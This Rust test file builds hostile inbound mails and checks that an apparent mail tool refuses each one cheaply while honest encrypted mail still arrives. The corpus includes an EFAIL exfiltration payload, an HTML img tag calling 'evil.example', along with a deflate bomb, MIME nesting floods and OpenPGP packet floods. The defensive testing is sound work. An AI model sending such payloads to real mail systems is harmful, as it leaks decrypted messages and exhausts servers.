//! Mails that want to hurt: the real program, as a mail server's pipe runs it, refuses each in
//! little time and memory, keeps nothing, and takes the next honest one.

use std::io::{Read as _, Write as _};
use std::process::Stdio;

use daybreak::clock::{Clock as _, SystemClock};
use daybreak::domain::time::Span;
use daybreak::pgp::{Certificate, ResidentSigner, Signer as _, TeamKey, samples};
use sequoia_openpgp::parse::Parse as _;
use sequoia_openpgp::policy::StandardPolicy;
use sequoia_openpgp::serialize::stream::{Armorer, Encryptor, Message, Recipient};
use sequoia_openpgp::types::Features;

use super::crlf;
use crate::cli::bench::{Bench, text};

/// Of a processor's time; an unoptimised build needs longer. The machine may be shared: what
/// others take is not counted.
const TIME: Span = if cfg!(debug_assertions) { Span::secs(5) } else { Span::secs(2) };
/// What one mail may cost, in KiB.
const MEMORY: u64 = 256 * 1024;
const MIB: usize = 1024 * 1024;

/// What a run cost.
struct Run {
    code: i32,
    out: String,
    err: String,
    took: Span,
    peak_kib: u64,
}

/// The most memory a living process ever had.
fn peak(pid: u32) -> Option<u64> {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).ok()?;
    let line = status.lines().find_map(|l| l.strip_prefix("VmHWM:"))?;
    line.trim().split(' ').next()?.parse().ok()
}

/// The processor's time that a living process has had: fields 14 and 15, in hundredths.
fn spent(pid: u32) -> Option<Span> {
    let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).ok()?;
    let (_, rest) = stat.rsplit_once(") ")?;
    let ticks = rest.split(' ').skip(11).take(2).filter_map(|n| n.parse::<i64>().ok()).sum::<i64>();
    Some(Span::millis(ticks * 10))
}

/// Runs `daybreak` with a mail on its standard input and watches it.
#[expect(clippy::disallowed_methods, reason = "a test watches the process that it runs")]
fn watched(bench: &Bench, args: &[&str], mail: &[u8]) -> Run {
    let mut child = std::process::Command::new(env!("CARGO_BIN_EXE_daybreak"))
        .args(args)
        .env_clear()
        .env("PATH", std::env::var_os("PATH").unwrap())
        .env("DAYBREAK_DIR", bench.path("house"))
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut stdin = child.stdin.take().unwrap();
    let (mut peak_kib, mut took) = (0, Span::ZERO);
    let code = std::thread::scope(|scope| {
        // Whoever has read enough closes the pipe.
        scope.spawn(move || stdin.write_all(mail).is_ok());
        loop {
            peak_kib = peak_kib.max(peak(child.id()).unwrap_or(0));
            took = took.max(spent(child.id()).unwrap_or(Span::ZERO));
            if let Some(status) = child.try_wait().unwrap() {
                break status.code().unwrap();
            }
            std::thread::sleep(std::time::Duration::from_millis(1));
        }
    });
    let (mut out, mut err) = (String::new(), String::new());
    child.stdout.take().unwrap().read_to_string(&mut out).unwrap();
    child.stderr.take().unwrap().read_to_string(&mut err).unwrap();
    Run { code, out, err, took, peak_kib }
}

/// A team that knows one distributor, whose key is here.
struct Scene {
    bench: Bench,
    team: Certificate,
    key: TeamKey,
}

impl Scene {
    fn new() -> Option<Self> {
        let bench = Bench::with_house()?;
        let user = "Heath <security@heath.example>";
        let key = samples::cv25519(user, SystemClock::new().wall().plus(Span::mins(-5))).unwrap();
        let file = bench.write("heath.asc", key.certificate.armored());
        let address = "security@heath.example";
        let add = ["distributor", "add", "--name", "Heath", "--contact", address];
        bench.ok(&[&add[..], &["--certificate", text(&file)]].concat());
        let team = std::fs::read(bench.path("house/team.asc")).unwrap();
        Some(Self { bench, team: Certificate::import(&team).unwrap(), key })
    }

    /// Packets, whatever they are, encrypted to the team and armored.
    fn sealed(&self, packets: &[u8]) -> String {
        let cert = sequoia_openpgp::Cert::from_bytes(&self.team.to_bytes()).unwrap();
        let policy = StandardPolicy::new();
        let keys: Vec<_> =
            cert.keys().with_policy(&policy, None).supported().for_transport_encryption().collect();
        let recipients = keys.iter().map(|k| {
            let key = k.key();
            Recipient::new(Features::empty().set_seipdv1(), key.key_handle(), key)
        });
        let mut armored = Vec::new();
        let armorer = Armorer::new(Message::new(&mut armored)).build().unwrap();
        let mut encryptor = Encryptor::for_recipients(armorer, recipients).build().unwrap();
        encryptor.write_all(packets).unwrap();
        encryptor.finalize().unwrap();
        String::from_utf8(armored).unwrap()
    }

    /// One-pass signature, literal data and signature of the distributor.
    fn signed(&self, words: &[u8]) -> Vec<u8> {
        let signer = ResidentSigner::new(&self.key).unwrap();
        let now = SystemClock::new().wall();
        let runtime = tokio::runtime::Builder::new_current_thread().build().unwrap();
        runtime.block_on(signer.sign_message(words, &[], now)).unwrap()
    }

    /// The same with each signature `times` over.
    fn signed_often(&self, times: usize) -> Vec<u8> {
        let once = self.signed(b"hello");
        // One-pass signature and literal data have short, known lengths; the rest is the signature.
        let (ops, rest) = once.split_at(2 + usize::from(once[1]));
        let (literal, signature) = rest.split_at(2 + usize::from(rest[1]));
        assert_eq!((ops[0] & 0x3f, literal[0] & 0x3f, signature[0] & 0x3f), (4, 11, 2));
        [ops.repeat(times), literal.to_vec(), signature.repeat(times)].concat()
    }
}

/// A packet with a new-format header (RFC 9580 section 4.2.1).
fn packet(tag: u8, body: &[u8]) -> Vec<u8> {
    let length = u32::try_from(body.len()).unwrap().to_be_bytes();
    [&[0xc0 | tag, 0xff][..], &length, body].concat()
}

fn armored(packets: &[u8]) -> String {
    use base64::Engine as _;
    let text = base64::engine::general_purpose::STANDARD.encode(packets);
    let lines: Vec<_> =
        text.as_bytes().chunks(64).map(|l| String::from_utf8(l.to_vec()).unwrap()).collect();
    format!("-----BEGIN PGP MESSAGE-----\n\n{}\n-----END PGP MESSAGE-----\n", lines.join("\n"))
}

pub fn inline(armored: &str) -> Vec<u8> {
    crlf(&format!("From: security@heath.example\nSubject: Re: [...]\n\n{armored}"))
}

/// Ends a deflate stream of `size` zeros, as gpg makes it.
fn bomb(scene: &Scene, size: usize) -> Vec<u8> {
    let zeros = vec![0_u8; size];
    let bench = &scene.bench;
    bench.gpg(&["--import", text(&bench.path("house/team.asc"))], b"");
    let to = scene.team.fingerprint().to_string();
    let zip = ["--compress-algo", "zip", "-z", "9", "--armor", "--encrypt", "--recipient", &to];
    inline(&String::from_utf8(bench.gpg(&zip, &zeros)).unwrap())
}

/// What is refused, with the word that the server learns.
fn attacks(scene: &Scene) -> Vec<(&'static str, &'static str, Vec<u8>)> {
    let words = scene.signed(b"hello");
    let sealed = scene.sealed(&words);
    // Version 4, AES-256, Argon2 with t = 1, p = 1 and 2^31 KiB of memory.
    let argon2 = [&[4, 9, 4][..], &[7; 16], &[1, 1, 31]].concat();
    let session_key = [&[3][..], &[0; 8], &[18], &[0; 50]].concat();
    let body = packet(18, &[&[1][..], &[0x55; 200]].concat());
    let version = "Content-Type: application/pgp-encrypted\n\nVersion: 1\n";
    let nested = format!(
        "Content-Type: multipart/encrypted; boundary=n\n\n--n\n{version}\n--n\n\
         Content-Type: application/octet-stream\n\n{sealed}\n--n--\n"
    );
    let nested = packet(11, &[&b"b\0\0\0\0\0"[..], nested.as_bytes()].concat());
    let beside = |before: &str, after: &str| {
        crlf(&format!(
            "From: a@b.example\nContent-Type: multipart/mixed; boundary=m\n\n--m\n{before}\n--m\n\
             Content-Type: application/octet-stream\n\n{sealed}\n--m\n{after}\n--m--\n"
        ))
    };
    let image = "Content-Type: text/html\n\n<img src=\"http://evil.example/?";
    let damaged = {
        let at = sealed.len() / 2;
        let other = if sealed.as_bytes()[at] == b'A' { "B" } else { "A" };
        let (before, after) = sealed.split_at(at);
        format!("{before}{other}{}", after.chars().skip(1).collect::<String>())
    };
    let deep: String = (0..5000)
        .map(|n| format!("Content-Type: multipart/mixed; boundary=b{n}\n\n--b{n}\n"))
        .collect();
    let parts =
        "Content-Type: multipart/mixed; boundary=b\n\n".to_owned() + &"--b\n\n".repeat(3 * MIB);
    let flood = "X-Header: value\n".repeat(MIB);
    let keys = [packet(1, &session_key).repeat(50_000), body.clone()].concat();
    let passwords = [packet(3, &argon2), body.clone()].concat();
    let outside = [packet(2, &[0; 70]).repeat(50_000), words.clone()].concat();
    let wrapped = scene.sealed(&[packet(1, &session_key), body].concat());
    let huge = packet(2, &vec![0; 4 * MIB]);
    vec![
        ("26 MiB", "too-large", vec![b'x'; 26 * MIB]),
        ("3 million parts", "too-many-parts", crlf(&parts)),
        ("5000 levels", "too-deep", crlf(&deep)),
        ("a million headers", "headers", crlf(&flood)),
        ("EFAIL, direct exfiltration", "mixed", beside(image, "Content-Type: text/html\n\n\">")),
        ("a clear part before", "mixed", beside("\nread this too\n", "\n")),
        ("an unfolding of 200 MB", "opens-too-large", bomb(scene, 200 * MIB)),
        (
            "50k signatures inside",
            "hostile-packets",
            inline(&scene.sealed(&scene.signed_often(50_000))),
        ),
        ("50k signatures outside", "hostile-packets", inline(&armored(&outside))),
        ("50k session keys", "hostile-packets", inline(&armored(&keys))),
        ("Argon2 with 2 TiB", "hostile-packets", inline(&armored(&passwords))),
        ("a signature of 4 MiB", "hostile-packets", inline(&scene.sealed(&huge))),
        ("encryption in encryption", "hostile-packets", inline(&wrapped)),
        ("an encrypted mail in an encrypted mail", "nested", inline(&scene.sealed(&nested))),
        ("one letter changed", "damaged", inline(&damaged)),
        ("not OpenPGP at all", "damaged", inline(&armored(&[b'x'; 5000]))),
    ]
}

#[test]
fn hostile_mail_is_refused_cheaply_and_honest_mail_still_comes() {
    let Some(scene) = Scene::new() else { return };
    let bench = &scene.bench;
    let before = bench.writes();
    let attacks = attacks(&scene);
    for (name, code, mail) in &attacks {
        let run = watched(bench, &["mail", "receive", "--pipe"], mail);
        assert_eq!((run.code, run.err.trim()), (65, *code), "{name}: {}", run.out);
        assert_eq!(run.out, "", "{name}");
        assert!(run.took < TIME, "{name}: {} ms", run.took.as_millis());
        assert!(run.peak_kib > 0 && run.peak_kib < MEMORY, "{name}: {} KiB", run.peak_kib);
    }
    assert_eq!(bench.writes(), before, "something of them was kept");

    // By hand the reason and a cure are said, and the house's own exit code.
    let mixed = &attacks[4].2;
    bench.refused_with(&["mail", "receive"], mixed, 1, &["mixes encrypted and clear parts"]);

    let honest = inline(&scene.sealed(&scene.signed(b"hello \x1b[2J\n")));
    let run = watched(bench, &["--json", "mail", "receive"], &honest);
    assert_eq!(run.code, 0, "{}", run.err);
    let said: serde_json::Value = serde_json::from_str(&run.out).unwrap();
    assert_eq!(
        (said["kind"].as_str(), said["standing"].as_str()),
        (Some("encrypted"), Some("verified"))
    );
    assert_eq!(said["proofs"], 1);
    let id = said["id"].as_str().unwrap();
    let shown = bench.ok(&["mail", "show", id]);
    assert!(shown.contains("Heath") && shown.contains("hello \\u{1b}[2J"), "{shown}");
    assert_eq!(bench.json(&["mail", "show", id])["text"], "hello \u{1b}[2J\n");
    assert_eq!(bench.json(&["mail", "list"]).as_array().unwrap().len(), 1);
    let out = bench.path("saved.eml");
    bench.ok(&["mail", "show", id, "--raw", "--out", text(&out)]);
    assert_eq!(std::fs::read(out).unwrap(), honest);

    // The largest that is taken at all stays within the same bounds.
    let large = crlf("From: a@b.example\nSubject: x\nContent-Type: application/zip\n\n");
    let large = [large, vec![b'x'; 24 * MIB]].concat();
    let run = watched(bench, &["mail", "receive", "--pipe"], &large);
    assert_eq!((run.code, run.err.as_str(), run.out.as_str()), (0, "", ""));
    assert!(run.peak_kib < MEMORY, "{} KiB", run.peak_kib);
    // A house that cannot be opened now: the server keeps the mail.
    let broken = std::fs::rename(bench.path("house/vault.key"), bench.path("vault.key"));
    broken.unwrap();
    assert_eq!(watched(bench, &["mail", "receive", "--pipe"], &honest).code, 75);
}

/// The same corpus, accounted for by the processes themselves.
#[test]
fn the_bench_prints_what_hostile_mail_costs() {
    let Some(bench) = Bench::new() else { return };
    let figures = bench.json(&["bench", "hostile"]);
    assert_eq!(figures["met"], true, "{figures}");
    assert_eq!(figures["optimised"], !cfg!(debug_assertions));
    let mails = figures["mails"].as_array().unwrap();
    assert_eq!(mails.len(), 18);
    let (taken, refused): (Vec<_>, Vec<_>) = mails.iter().partition(|m| m["code"] == "taken");
    let worst = |all: &[&serde_json::Value], what: &str| {
        all.iter().map(|m| m[what].as_f64().unwrap()).fold(0.0, f64::max)
    };
    assert_eq!((taken.len(), refused.len()), (2, 16), "{figures}");
    assert_eq!(figures["worst_cpu_ms"].as_f64(), Some(worst(&refused, "cpu_ms")));
    let memory = worst(&refused, "peak_bytes").max(worst(&taken, "peak_bytes"));
    assert!(memory > 1e6 && figures["worst_peak_bytes"].as_f64() == Some(memory), "{figures}");
}
